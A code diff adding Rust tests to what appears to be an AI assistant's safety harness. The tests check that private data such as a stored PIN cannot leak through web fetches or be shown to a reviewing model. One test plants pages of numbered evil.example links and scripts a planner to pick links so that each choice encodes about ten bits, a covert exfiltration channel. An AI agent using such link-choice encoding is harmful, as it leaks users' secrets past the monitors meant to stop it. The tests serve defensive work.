@@ -5,7 +5,7 @@ use super::oracle::PERSON;
 use super::thirty_days::reader;
 use cara_assistant::{Input, Reading};
 use cara_authority::{Label, PersonId, Source};
-use cara_harness::assistant::{Heard, Judge, Page, Reply, Scripted, Setup, Stage, shown_to_model};
+use cara_harness::assistant::{ENGINE, Heard, Judge, Page, Reply, Scripted, Setup, Stage, shown_to_model};
 use cara_kernel::bindings::types::{Blob, Part, Role};
 use serde_json::{Value, json};
 use std::sync::Arc;
@@ -134,5 +134,48 @@ async fn a_named_link_is_followed_after_private_content_and_one_out_of_a_private
         let text = Input::typed("My pin, then read https://page.example/ and what it leads to");
         stage.assistant.run(&mut session, &thinker, text, heard.company(judge.clone())).await.unwrap();
         assert_eq!(judge.asked().len(), asks, "{attached}: {:?}", judge.asked());
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn links_that_a_planner_names_tell_no_more_than_any_in_a_session() {
+    let stage = stage().await;
+    for (host, from) in [("one.example", 0), ("two.example", 1_000)] {
+        let links: String = (from..from + 1_000).map(|number| format!("https://evil.example/{number}\n")).collect();
+        stage.internet.page(host, Page::text(links));
+    }
+    stage.internet.page("evil.example", Page::text("nothing"));
+    let mut calls = vec![("fetch_page", json!({ "url": "https://one.example/" }))];
+    calls.push(("fetch_page", json!({ "url": "https://two.example/" })));
+    let named =
+        (2..=8).map(|link| format!("{{{{r1.link{link}}}}}")).chain((2..=7).map(|n| format!("{{{{r2.link{n}}}}}")));
+    calls.extend(named.map(|link| ("fetch_page", json!({ "url": link }))));
+    let text = "Read https://one.example/ and https://two.example/ and where they lead";
+    let (heard, judge, seen) = run(&stage, planner(calls, "done"), text).await;
+    // The first link of each is its own address. Ten bits a link: twelve of them.
+    let failed: Vec<bool> = heard.results().into_iter().map(|(_, _, failed)| failed).collect();
+    assert_eq!((judge.asked().len(), failed.iter().filter(|failed| **failed).count()), (1, 1), "{:?}", judge.asked());
+    assert!(failed[14] && !seen.is_untrusted(), "{failed:?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_reader_is_not_told_the_arguments_once_anything_private_was_seen() {
+    for private in [false, true] {
+        let stage = stage().await;
+        let found = json!({ "results": [{ "url": "https://found.example/", "title": "a", "content": "b" }] });
+        stage.internet.page(ENGINE, Page::json(found.to_string()));
+        let memory = stage.assistant.records.memory(&PersonId::parse(PERSON).unwrap());
+        memory.write("pin", "4711", Label::of(Source::Owner)).await.unwrap();
+        let pin = private.then(|| ("memory_read", json!({ "key": "pin" })));
+        let search = ("web_search", json!({ "query": "what is 4711" }));
+        let (scripted, thinker) = planner(pin.into_iter().chain([search]).collect(), "done").shared();
+        let mut session = stage.session(PERSON).await;
+        let company = Heard::default().company(Judge::denying());
+        stage.assistant.run(&mut session, &thinker, Input::typed("Find out about my pin"), company).await.unwrap();
+        let requests = scripted.requests();
+        let read: Vec<_> = requests.iter().filter(|request| reader(request).is_some()).collect();
+        assert_eq!(read.len(), 1);
+        let told = shown_to_model(read[0]).join("\n");
+        assert!(told.contains("The call: web_search") && told.contains("4711") != private, "{private}: {told}");
     }
 }
